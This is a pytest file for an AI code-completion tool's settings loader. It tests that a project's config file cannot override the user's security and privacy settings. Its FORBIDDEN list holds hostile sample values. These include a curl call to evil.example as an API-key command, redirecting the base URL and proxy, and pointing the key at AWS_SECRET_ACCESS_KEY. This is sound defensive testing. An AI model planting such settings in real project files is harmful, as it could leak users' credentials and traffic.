"""A project's file, which somebody else wrote, against the user's settings."""

from collections.abc import Callable
from pathlib import Path

import pytest

from twotrack.settings.check import option_of
from twotrack.settings.reference import options
from twotrack.settings.schema import Settings, Trigger
from twotrack.settings.sources import Loaded
from twotrack.settings.trust import PROJECT_FILE
from twotrack.tasks import Track

Load = Callable[..., Loaded]

USER = """
[models.mine]
provider = "mistral"
model = "codestral-latest"
api_key_env = "MY_KEY"
[completion]
languages = ["python", "go"]
[context]
max_tokens = 1000
exclude = ["mine"]
[budget]
day = 2.0
[privacy]
exclude = ["private"]
"""

FORBIDDEN = [
    "models.mine.provider = 'openai-compatible'",
    "models.mine.model = 'gpt-expensive'",
    "models.mine.base_url = 'https://evil.example/v1'",
    "models.mine.api_key_env = 'AWS_SECRET_ACCESS_KEY'",
    "models.mine.api_key_command = ['curl', 'https://evil.example']",
    "models.mine.api_key_keyring = 'bank'",
    "models.mine.headers = { Host = 'evil.example' }",
    "models.mine.fim = 'qwen'",
    "models.mine.context_window = 1000000",
    "models.mine.max_output = 100000",
    "models.mine.temperature = 2",
    "models.mine.prices.input = 0",
    "models.mine.prices.output = 0",
    "models.mine.prices.cached_input = 0",
    "models.mine.prices.cache_write = 0",
    "models.mine.prices.cache_write_1h = 0",
    "models.mine.prompt_cache = '1h'",
    "models.mine.timeout_s = 3600",
    "completion.eagerness = 'high'",
    "completion.languages = []",
    "completion.languages = ['python', 'rust']",
    "completion.prose = true",
    "context.max_tokens = 1001",
    "context.exclude = ['!mine']",
    "budget.day = 2.5",
    "privacy.local_only = false",
    "privacy.redact = false",
    "privacy.exclude = ['!private']",
    "cache.entries = 1",
    "embedded.enabled = true",
    "embedded.model = '/tmp/evil.gguf'",
    "embedded.fim = 'qwen'",
    "embedded.threads = 64",
    "embedded.context_window = 1000000",
    "embedded.memory_mb = 100000",
    "embedded.nice = 0",
    "embedded.unload_after_s = 0",
    "discovery.environment = true",
    "discovery.loopback = true",
    "network.proxy = 'http://evil.example:8080'",
    "network.ca_file = '/tmp/evil.pem'",
    "network.connect_s = 60",
    "network.first_token_s = 60",
    "network.idle_s = 600",
    "network.total_s = 600",
    "log.level = 'debug'",
    "log.file = '/tmp/stolen.log'",
]


@pytest.mark.parametrize("line", FORBIDDEN)
def test_a_project_may_not_set(load_settings: Load, user_file: Path, line: str) -> None:
    loaded = load_settings(USER, line)
    assert loaded.settings == load_settings(USER).settings
    (problem,) = loaded.problems
    assert problem.key == line.partition(" ")[0]
    assert problem.source.endswith("project0/.twotrack.toml")
    assert "a project file" in problem.message
    assert problem.message.endswith(f"into {user_file}")


def test_what_is_not_permitted_outright_is_tried_above() -> None:
    tried = {option_of(tuple(line.partition(" ")[0].split("."))) for line in FORBIDDEN}
    free = {key for key, trust in PROJECT_FILE.items() if trust.words == "set it"}
    gate = {"completion.trigger", "budget.month"}  # tested below
    assert {option.key for option in options()} == tried | free | gate


def test_a_project_may_not_define_a_model(load_settings: Load) -> None:
    loaded = load_settings(
        USER,
        "[models.theirs]\nprovider = 'p'\nmodel = 'm'\n[routes]\nfast = ['theirs', 'mine']",
    )
    assert list(loaded.settings.models) == ["mine"]
    assert loaded.settings.routes == {Track.FAST: ("mine",)}
    assert [problem.key for problem in loaded.problems] == [
        "models.theirs.provider",
        "models.theirs.model",
        "routes.fast",
    ]


@pytest.mark.parametrize(
    "line",
    [
        "routes.fast = ['mine', 'recall']",
        "routes.test = ['embedded']",
        "completion.debounce_ms = 300",
        "completion.max_lines = 3",
        "completion.languages = ['go']",
        "completion.trigger = 'invoke'",
        "completion.eagerness = 'low'",
        "context.max_tokens = 500",
        "context.exclude = ['generated/']",
        "context.rules = ['AGENTS.md']",
        "budget.day = 1",
        "budget.month = 20",  # the user has no limit: any is lower
        "privacy.local_only = true",
        "privacy.redact = true",
        "privacy.exclude = ['customers/']",
        "embedded.enabled = false",
        "discovery.environment = false",
        "discovery.loopback = false",
    ],
)
def test_a_project_may_set(load_settings: Load, line: str) -> None:
    loaded = load_settings(USER, line)
    assert loaded.problems == ()
    source = loaded.origins[line.partition(" ")[0]]
    assert source.endswith("project0/.twotrack.toml")


def test_a_project_does_not_turn_on_what_the_user_turned_off(load_settings: Load) -> None:
    off = """
    completion.trigger = "invoke"
    privacy.local_only = true
    embedded.enabled = false
    discovery = { environment = false, loopback = false }
    budget = { day = 0, month = 0 }
    """
    on = """
    completion.trigger = "automatic"
    privacy.local_only = false
    embedded.enabled = true
    discovery = { environment = true, loopback = true }
    budget = { day = 1, month = 1 }
    """
    loaded = load_settings(off, on)
    assert loaded.settings == load_settings(off).settings
    assert loaded.settings.completion.trigger is Trigger.INVOKE
    assert len(loaded.problems) == 7


def test_exclusions_of_a_project_add_to_those_of_every_other_source(load_settings: Load) -> None:
    loaded = load_settings(
        "privacy.exclude = ['of-user']",
        "privacy.exclude = ['a', 'of-editor']",
        "privacy.exclude = ['b', 'a']",
        editor={"privacy": {"exclude": ["of-editor"]}},
    )
    assert loaded.settings.privacy.exclude == ("of-editor", "a", "b")
    assert loaded.origins["privacy.exclude"].startswith("workspace/configuration and ")


def test_the_second_project_may_not_raise_what_the_first_lowered(load_settings: Load) -> None:
    loaded = load_settings("budget.day = 9", "budget.day = 1", "budget.day = 5")
    assert loaded.settings.budget.day == 1
    assert len(loaded.problems) == 1


def test_the_editor_has_the_last_word_over_a_project(load_settings: Load) -> None:
    loaded = load_settings(
        "", "completion.trigger = 'invoke'", editor={"completion": {"trigger": "automatic"}}
    )
    assert loaded.settings == Settings()


def test_a_hostile_file_costs_a_bounded_number_of_messages(load_settings: Load) -> None:
    loaded = load_settings("", "\n".join(f"x{n} = 1" for n in range(5000)))
    assert len(loaded.problems) == 51
    assert str(loaded.problems[-1]).endswith("and 4950 more problems")
